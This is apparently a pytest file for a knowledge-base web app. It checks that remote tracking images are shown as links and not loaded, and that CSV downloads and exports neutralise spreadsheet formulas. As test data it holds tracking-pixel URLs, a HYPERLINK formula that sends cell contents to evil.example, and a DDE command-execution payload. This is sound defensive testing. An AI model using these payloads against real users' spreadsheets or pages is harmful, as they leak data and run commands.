"""What a record may hold that must not act when shown: remote images (a tracking image in a pasted
note) and spreadsheet formulas in CSV downloads and exports."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import url_for

from kb.table import Table, csv_cell, csv_safe
from kb.views.markdown import render_markdown
from tests.helpers import D

BEACONS = """\
---
customer: acme
person: Jane Doe, CFO
status: meh
---
## Why did they have to change?
A note pasted from an email: ![the Q3 chart](https://tracker.example/open.png?who=jane)
<img src="http://tracker.example/pixel.gif" alt="beacon">
<img src="//tracker.example/relative.gif" alt="">
![ok](/static/kb.css)
"""


def image_sources(page: str) -> list[str]:
    return re.findall(r"<img\b[^>]*\bsrc=\"([^\"]*)\"", page)


@pytest.fixture
def beacons(kb_root):
    kb_root.customer("acme")
    kb_root.write("casestudies/beacons.md", BEACONS)
    return kb_root


def test_remote_images_are_not_loaded_but_shown_as_links(beacons, client):
    page = client.get("/casestudies/beacons").text
    assert [src for src in image_sources(page) if "tracker" in src] == []
    assert image_sources(page) == ["/static/kb.css"]  # an image of kb's own is still an image
    assert '<a class="remote-image" href="https://tracker.example/open.png?who=jane" rel="noopener noreferrer"' in page
    assert ">image: the Q3 chart</a>" in page and ">image: beacon</a>" in page
    assert ">image: //tracker.example/relative.gif</a>" in page  # no alt text: the address is shown


def test_remote_images_are_not_loaded_in_the_preview_either(beacons, app, client, csrf_token):
    with app.test_request_context():
        form_url = url_for("write.new_casestudy")
    token = csrf_token(client, form_url)
    preview = client.post("/preview", data={"csrf_token": token, "answer_why_change": BEACONS.split("## ", 1)[1]})
    assert preview.status_code == 200, preview.text[:300]
    assert [src for src in image_sources(preview.text) if "tracker" in src] == []


def test_kb_toml_remote_images_lets_https_images_load(beacons, make_app):
    beacons.write("kb.toml", "remote_images = true\n")
    response = make_app(beacons.root).test_client().get("/casestudies/beacons")
    assert image_sources(response.text) == ["https://tracker.example/open.png?who=jane", "/static/kb.css"]
    assert ">image: beacon</a>" in response.text  # http images stay links: the policy would block them
    assert "img-src 'self' data: https:;" in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize(
    "src",
    [
        "https://t.example/a.png",
        "HTTP://t.example/a.png",
        "//t.example/a.png",
        "/\\t.example/a.png",
        "\\\\t.example/a.png",
        " https://t.example/a.png",
        "h&#9;ttps://t.example/a.png",
        "https&#58;//t.example/a.png",
        "ftp://t.example/a.png",
    ],
)
def test_no_spelling_of_a_remote_image_is_loaded(src):
    html = render_markdown(f'<img src="{src}" alt="x">', lambda slug, kind: None)
    assert [found for found in image_sources(html) if "t.example" in found] == [], html


@pytest.mark.parametrize("src", ["/static/kb.css", "pictures/chart.png", "data:image/png;base64,iVBORw0KGgo="])
def test_an_image_that_stays_on_this_computer_is_not_touched(src):
    html = render_markdown(f"![x]({src})", lambda slug, kind: None)
    assert "remote-image" not in html


# -- CSV ----------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example?"&A1,"Click")', "@SUM(1+1)", "+1+1", "-2+3", "\tx", "\r=1", "=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "+1.5", "-0.25", "-1e3", "", "Acme", "'=already", "a=b", " =1", "3-2"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert csv_safe(text) == text


def test_a_numeric_column_keeps_its_negative_numbers_and_a_text_column_is_made_safe():
    table = Table("t", [("delta", "Delta"), ("note", "Note"), ("tags", "Tags")])
    table.add({"delta": -3, "note": "-3", "tags": ["-x", "=y"]})
    table.add({"delta": -1.5, "note": "-3+1", "tags": []})
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows == [["Delta", "Note", "Tags"], ["-3", "-3", "'-x, =y"], ["-1.5", "'-3+1", ""]]
    assert [csv_cell(value) for value in (-3, 2.0, None, "=1")] == ["-3", "2", "", "'=1"]


@pytest.fixture
def formulas(kb_root):
    kb_root.customer("acme", name='\'=HYPERLINK("https://evil.example","Click")\'')
    kb_root.casestudy(
        "acme-story",
        "acme",
        person='"@SUM(1+1)"',
        tags='["+1+1", "-2+3", "plain"]',
        answers={"why_change": "=cmd|' /C calc'!A0", "success": "- a list item"},
    )
    return kb_root


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(all_cells: list[str]) -> None:
    running = [cell for cell in all_cells if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell != "-"]
    assert [cell for cell in running if not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)] == []


@pytest.mark.parametrize("url", ["/casestudies.csv", "/customers.csv", "/search.csv?q=acme", "/compare.csv"])
def test_web_csv_downloads_neutralise_formulas(formulas, client, url):
    with client.get(url) as response:
        assert response.status_code == 200
        found = cells(response.text)
    assert_no_formula(found)
    assert any(cell.startswith("'") for cell in found), found


def test_the_web_csv_shows_each_formula_as_text(formulas, client):
    with client.get("/casestudies.csv") as response:
        found = cells(response.text)
    assert "'@SUM(1+1)" in found and "'+1+1, -2+3, plain" in found
    with client.get("/customers.csv") as response:
        assert '\'=HYPERLINK("https://evil.example","Click")' in cells(response.text)


def test_kb_export_csv_neutralises_formulas(formulas, runner):
    result = runner(formulas, "export", "--format", "csv")
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    assert_no_formula(found)
    assert '\'=HYPERLINK("https://evil.example","Click")' in found and "'@SUM(1+1)" in found
    assert "'=cmd|' /C calc'!A0" in found and "'- a list item" in found
    assert "'+1+1; -2+3; plain" in found


def test_kb_compare_csv_neutralises_formulas(formulas, runner):
    result = runner(formulas, "compare", "--as-of", D, "--format", "csv")
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    assert_no_formula(found)
    assert "'=cmd|' /C calc'!A0" in found and "'@SUM(1+1)" in found
